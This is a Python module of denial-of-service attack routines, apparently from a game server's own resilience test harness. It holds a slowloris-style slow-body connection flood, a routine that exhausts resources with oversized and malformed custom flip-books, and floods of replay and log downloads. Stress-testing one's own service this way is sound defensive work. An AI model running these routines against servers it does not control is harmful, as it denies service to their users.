"""Attacks by requests: bodies that never end, flip-books of one's own, and floods of downloads."""

import asyncio
import contextlib
from typing import Any

from _attacker import COOKIE, ME, SOURCE, Attack, legal_of
from _client import Http, Socket

from burrow.games.gophers.data.texts import OURS
from burrow.games.gophers.options import LONGEST_BOOK

LINES = 400
"""Slow bodies at the same time: more than one address may have."""
BODY = 60_000
"""Bytes of a body that is promised; all but the last few come at once."""
AT_ONCE = 8
"""Downloads at the same time."""


async def bodies(attack: Attack) -> None:
    """Hundreds of requests whose bodies nearly end: the rest comes a byte a second. Whoever is closed comes again."""
    name, port = attack.host.split(":")

    async def send() -> None:
        while attack.goes_on:
            with contextlib.suppress(OSError):
                _, writer = await asyncio.open_connection(name, int(port), local_addr=(SOURCE, 0))
                with contextlib.closing(writer):
                    writer.write(
                        f"POST /api/tables HTTP/1.1\r\nHost: {attack.host}\r\nContent-Type: application/json\r\n"
                        f"Content-Length: {BODY}\r\n\r\n".encode()
                        + b" " * (BODY - 100)
                    )
                    while attack.goes_on and not writer.is_closing():
                        await asyncio.sleep(1.0)
                        writer.write(b" ")
            await asyncio.sleep(1.0)

    attack.ready()
    await asyncio.gather(*(send() for _ in range(LINES)))


def book(number: int) -> str:
    """Our flip-book, as long as one may be. Each is another text, so none is found among those read before."""
    text = f"# {number}\n{OURS}"
    return text + "#" * (LONGEST_BOOK - len(text))


async def books(attack: Attack) -> None:
    """40 tables, each with a flip-book of its own, 80 questions a second whether a move is legal, and flip-books with
    a mistake on the last line."""
    moves: dict[Socket, list[Any]] = {}

    def hear(socket: Socket, frame: bytes) -> None:
        if found := legal_of(frame):
            moves[socket] = found

    names = [await attack.table("gophers", ME, ME, book="own", own=book(number)) for number in range(40)]
    sockets = [await attack.dial(name, hear) for name in names]
    wrong = asyncio.create_task(_send_wrong_books(attack))
    attack.ready()
    asked = 0
    while attack.goes_on:
        for socket in sockets:
            if not socket.lost and socket in moves:
                seat, *legal = moves[socket]
                asked += 1
                attack.say(socket, "why", seat=seat, move=legal[asked % len(legal)])
            await asyncio.sleep(1 / 80)
    wrong.cancel()


async def _send_wrong_books(attack: Attack) -> None:
    number = 1000
    while True:
        number += 1
        with contextlib.suppress(OSError):
            await attack.request("gophers", ME, ME, book="own", own=book(number)[:-2] + "\n?")
        await asyncio.sleep(0.1)


async def moments(attack: Attack) -> None:
    """A finished game, watched again by several at once, as often as the limits allow."""
    await _download(attack, "moments")


async def logs(attack: Attack) -> None:
    """The log of a finished game, downloaded by several at once, as often as the limits allow."""
    await _download(attack, "log")


async def _download(attack: Attack, what: str) -> None:
    name = await _finished(attack)

    async def ask() -> None:
        http = Http(attack.host, SOURCE)
        while attack.goes_on:
            with contextlib.suppress(OSError, asyncio.IncompleteReadError):
                await http.get(f"/api/tables/{name}/{what}", COOKIE)
            await asyncio.sleep(0.01)

    attack.ready()
    await asyncio.gather(*(ask() for _ in range(AT_ONCE)))


async def _finished(attack: Attack) -> str:
    """A game of Auf die Nüsse! in which everybody banks at once, so that it is as long as games get."""
    name = await attack.table("nuts", ME, ME, goal=200, race="paced", tie="shared")
    over = asyncio.Event()
    due: list[list[Any]] = []

    def hear(socket: Socket, frame: bytes) -> None:
        message = attack.read(frame)
        if message["say"] == "update" and message.get("scores"):
            over.set()
        if found := legal_of(frame):
            due[:] = [found]

    socket = await attack.dial(name, hear)
    while not over.is_set():
        if due:
            seat, *legal = due.pop()
            attack.say(socket, "move", seat=seat, move=legal[-1])
        await asyncio.sleep(1 / 30)  # no faster than the server hears
    socket.close()
    return name
